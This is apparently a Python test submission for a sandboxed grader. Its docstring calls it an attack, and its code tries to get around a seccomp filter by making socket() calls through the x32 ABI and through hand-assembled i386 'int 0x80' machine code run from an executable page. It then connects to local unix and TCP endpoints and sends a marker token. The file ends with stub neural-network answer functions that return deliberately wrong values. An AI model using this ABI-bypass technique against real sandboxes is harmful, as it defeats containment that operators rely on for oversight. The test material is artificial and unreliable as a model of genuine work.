"""Attack: make system calls through the other ABIs a seccomp filter may forget.

On x86_64 a process can also call the kernel through the x32 ABI (syscall numbers with
bit 30 set) and the i386 ABI (``int 0x80``, with i386 numbers: socket is 359 there, 41
natively). A filter that only lists native numbers lets both through. Each probe runs
in a forked child (a filter that kills on a foreign ABI then kills only the child),
named with the marker and ending itself after 5 s: x32 socket(), and machine code
(``mov eax, 359; int 0x80``) run from an executable page; a socket so obtained is
connected, with the ordinary connect(), to ``unix_path`` and ``abstract_name`` (AF_UNIX)
and 127.0.0.1:``tcp_port`` (AF_INET), and sent a token. Every answer is wrong: 0 points.
"""

import ctypes
import json
import mmap
import os
import platform
import signal
import socket
import struct

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-seccomp_compat_abi")
X32_BIT = 0x40000000
LOG = []


def x32_socket(family):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    args = (ctypes.c_long(family), ctypes.c_long(socket.SOCK_STREAM), ctypes.c_long(0))
    return libc.syscall(ctypes.c_long(X32_BIT | 41), *args)  # x32's socket is 41 too


def i386_socket(family):
    code = (b"\x53"  # push rbx
            + b"\xb8" + struct.pack("<I", 359)  # mov eax, 359 (i386 socket)
            + b"\xbb" + struct.pack("<I", family)  # mov ebx, family
            + b"\xb9" + struct.pack("<I", socket.SOCK_STREAM)  # mov ecx, type
            + b"\x31\xd2"  # xor edx, edx
            + b"\xcd\x80"  # int 0x80
            + b"\x48\x63\xc0"  # movsxd rax, eax
            + b"\x5b\xc3")  # pop rbx; ret
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return function()


def use(fd, family):
    addresses = ([CONFIG.get("unix_path"), "\0" + CONFIG["abstract_name"] if CONFIG.get("abstract_name") else None]
                 if family == socket.AF_UNIX else [("127.0.0.1", CONFIG.get("tcp_port"))])
    sock = socket.socket(family, socket.SOCK_STREAM, 0, fileno=fd)
    sock.settimeout(1.0)
    for address in addresses:
        try:
            sock.connect(address)
            sock.sendall(f"{MARKER} via a foreign ABI\n".encode())
            return f"sent to {address!r}"
        except (OSError, TypeError) as error:
            last = f"connect {address!r}: {error}"
    return last


def probe(name, make, family):
    """Run make(family) in a child; returns what the child reported."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read_end)
            signal.signal(signal.SIGALRM, signal.SIG_DFL)  # whatever the worker set, the alarm ends it
            signal.alarm(5)
            ctypes.CDLL(None).prctl(15, ctypes.c_char_p(MARKER.encode()[:15]), 0, 0, 0)
            fd = make(family)
            report = use(fd, family) if fd >= 0 else f"returned {fd}"
            os.write(write_end, report.encode()[:500])
        except BaseException as error:  # noqa: BLE001
            os.write(write_end, repr(error).encode()[:500])
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as stream:
        report = stream.read(500).decode("utf-8", "replace")
    status = os.waitpid(pid, 0)[1]
    if os.WIFSIGNALED(status):
        report += f" (child killed by {signal.Signals(os.WTERMSIG(status)).name})"
    LOG.append(f"{name}: {report}")


if platform.machine() == "x86_64":
    for _name, _make in (("x32 socket", x32_socket), ("int 0x80 socket", i386_socket)):
        for _family in (socket.AF_UNIX, socket.AF_INET):
            try:
                probe(f"{_name} {_family.name}", _make, _family)
            except Exception as _error:  # noqa: BLE001
                LOG.append(f"{_name}: {_error!r}")
else:
    LOG.append(f"not x86_64 ({platform.machine()}): nothing to try")
print("seccomp_compat_abi:", "; ".join(LOG))


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
